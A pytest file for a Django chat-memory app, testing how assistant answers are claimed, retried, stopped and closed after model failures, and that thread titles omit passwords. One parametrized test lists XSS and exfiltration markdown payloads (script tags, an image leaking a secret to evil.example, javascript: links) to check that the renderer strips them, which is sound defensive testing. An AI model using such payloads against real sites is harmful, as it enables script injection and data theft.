"""Answers: claimed once, kept as they grow, stopped, retried, and nothing lost when the model fails."""

import threading
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection

from memoryhub import clock
from memoryhub.chat import conversation, rendering, reply
from memoryhub.chat.reply import Progress
from memoryhub.errors import Conflict, NotFound
from memoryhub.llm.backends import fake
from memoryhub.llm.backends.fake import Answer
from memoryhub.llm.configuration import LlmSettings
from memoryhub.llm.errors import ModelRateLimited, ModelUnavailable
from memoryhub.llm.types import Purpose
from memoryhub.memory import facts, subjects, threads
from memoryhub.memory.facts import NewFact
from memoryhub.memory.kinds import Origin, TurnStatus
from memoryhub.memory.models import RecalledFact, Subject, Thread, Turn
from memoryhub.tenants import scope
from memoryhub.tenants.models import Tenant
from tests.conftest import ACTOR


@pytest.fixture(autouse=True)
def _model(settings: Any) -> None:
    settings.MEMORYHUB_LLM = LlmSettings(backend="fake")
    fake.reset()


def answers(*scripted: Any) -> None:
    fake.script(list(scripted), purpose=Purpose.REPLY)


def write(answer: Turn) -> Turn:
    assert reply.claim(answer, at=clock.now())
    reply.write(answer, Progress(), lambda: None)
    answer.refresh_from_db()
    return answer


def post(thread: Thread, text: str = "Hello") -> conversation.Posted:
    return conversation.post_message(thread, text, at=clock.now())


def test_a_message_is_kept_before_anything_else(thread: Thread) -> None:
    posted = post(thread)
    assert [(t.seq, t.role, t.status) for t in thread.turns.order_by("seq")] == [
        (1, "user", "complete"),
        (2, "assistant", "pending"),
    ]
    assert posted.question.content == "Hello"


def test_an_answer_is_written_and_its_memory_noted(thread: Thread, alice: Subject) -> None:
    fact = facts.remember(
        alice, NewFact("Plays the cello"), origin=Origin.OPERATOR, human=True, at=clock.now()
    )
    answers("You play the cello.")
    answer = write(post(thread, "Do I play the cello?").answer)
    assert (answer.content, answer.status) == ("You play the cello.", "complete")
    assert [row.fact_id for row in RecalledFact.objects.filter(turn=answer)] == [fact.id]


@pytest.mark.parametrize("failure", [ModelUnavailable("down"), ModelRateLimited("busy", retry_after=3)])
def test_a_failed_model_keeps_the_question_and_can_be_retried(thread: Thread, failure: Exception) -> None:
    answers(failure, "Better now.")
    posted = post(thread)
    answer = write(posted.answer)
    assert (answer.status, answer.error_code) == ("failed", failure.code)  # type: ignore[attr-defined]
    assert Turn.objects.get(id=posted.question.id).content == "Hello"
    again = write(conversation.retry(answer))
    assert (again.id, again.content, again.status) == (answer.id, "Better now.", "complete")
    assert [t.seq for t in thread.turns.order_by("seq")] == [1, 2]


def test_a_broken_off_answer_keeps_what_had_arrived(thread: Thread) -> None:
    answers(Answer("Half an", failure=ModelUnavailable("down")))
    answer = write(post(thread).answer)
    assert (answer.content, answer.status, answer.error_code) == ("Half an", "partial", "model_unavailable")


def test_an_empty_answer_is_a_failure(thread: Thread) -> None:
    answers(Answer("   "))
    assert write(post(thread).answer).error_code == "model_answer_empty"


def test_one_caller_alone_writes_an_answer(thread: Thread) -> None:
    answer = post(thread).answer
    assert [reply.claim(answer, at=clock.now()) for _ in range(3)] == [True, False, False]


def test_an_abandoned_answer_is_closed(thread: Thread) -> None:
    answer = post(thread).answer
    reply.claim(answer, at=clock.now() - timedelta(minutes=5))
    assert reply.close_abandoned(answer, at=clock.now())
    answer.refresh_from_db()
    assert (answer.status, answer.error_code) == ("failed", "interrupted")


def test_a_live_answer_is_not_closed(thread: Thread) -> None:
    answer = post(thread).answer
    reply.claim(answer, at=clock.now())
    assert not reply.close_abandoned(answer, at=clock.now())


def test_only_the_last_answer_can_be_retried(thread: Thread) -> None:
    answers(ModelUnavailable("down"), "Yes.")
    first = write(post(thread).answer)
    write(post(thread, "And now?").answer)
    with pytest.raises(Conflict):
        conversation.retry(first)


def test_a_finished_answer_can_not_be_retried(thread: Thread) -> None:
    answers("Yes.")
    with pytest.raises(Conflict):
        conversation.retry(write(post(thread).answer))


def test_a_repeat_of_a_message_is_harmless(thread: Thread) -> None:
    first = conversation.post_message(thread, "Hello", at=clock.now(), client_id="c1")
    again = conversation.post_message(thread, "Hello", at=clock.now(), client_id="c1")
    assert (again.question.id, again.answer.id) == (first.question.id, first.answer.id)
    assert thread.turns.count() == 2


def test_an_answer_of_somebody_else_is_not_there(thread: Thread) -> None:
    answer = post(thread).answer
    bob = subjects.ensure("bob", at=clock.now())
    with pytest.raises(NotFound):
        conversation.answer_of(answer.id, subject_id=bob.id)


def test_a_title_comes_from_the_first_message_without_its_secrets(alice: Subject) -> None:
    thread, _ = threads.open_thread(alice, at=clock.now())
    post(thread, "my password is hunter2")
    title = threads.get(thread.id).title
    assert title
    assert "hunter2" not in title


@pytest.mark.django_db(transaction=True)
def test_a_stopped_answer_keeps_what_had_arrived(tenant: Tenant, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reply, "CHECKPOINT", 0.02)
    with scope.enter(tenant.id, ACTOR, "req_test"):
        thread, _ = threads.open_thread(subjects.ensure("alice", at=clock.now()), at=clock.now())
        answers(Answer("word " * 200, pause=0.02))
        answer = post(thread).answer
        assert reply.claim(answer, at=clock.now())
    progress = Progress()

    def work() -> None:
        with scope.enter(tenant.id, ACTOR, "req_test"):
            reply.write(answer, progress, connection.close)

    worker = threading.Thread(target=work)
    worker.start()
    while len(progress.text) < 20:
        worker.join(0.02)
    with scope.enter(tenant.id, ACTOR, "req_test"):
        conversation.stop(answer)
        worker.join(20)
        answer.refresh_from_db()
    assert not worker.is_alive()
    assert answer.status == TurnStatus.STOPPED
    assert 0 < answer.content.count("word") < 200


@pytest.mark.parametrize(
    ("markdown", "never"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("![x](https://evil.example/?q=secret)", "<img"),
        ("[x](javascript:alert(1))", 'href="javascript'),
        ("[x](data:text/html,x)", 'href="data'),
        ("<a href='x' onclick='y'>z</a>", "<a href='x'"),
        ("<iframe src=x>", "<iframe"),
    ],
)
def test_markdown_is_harmless(markdown: str, never: str) -> None:
    assert never not in rendering.to_html(markdown)


def test_links_do_not_tell_where_they_were_found() -> None:
    assert 'rel="noopener noreferrer nofollow"' in rendering.to_html("[x](https://example.com)")
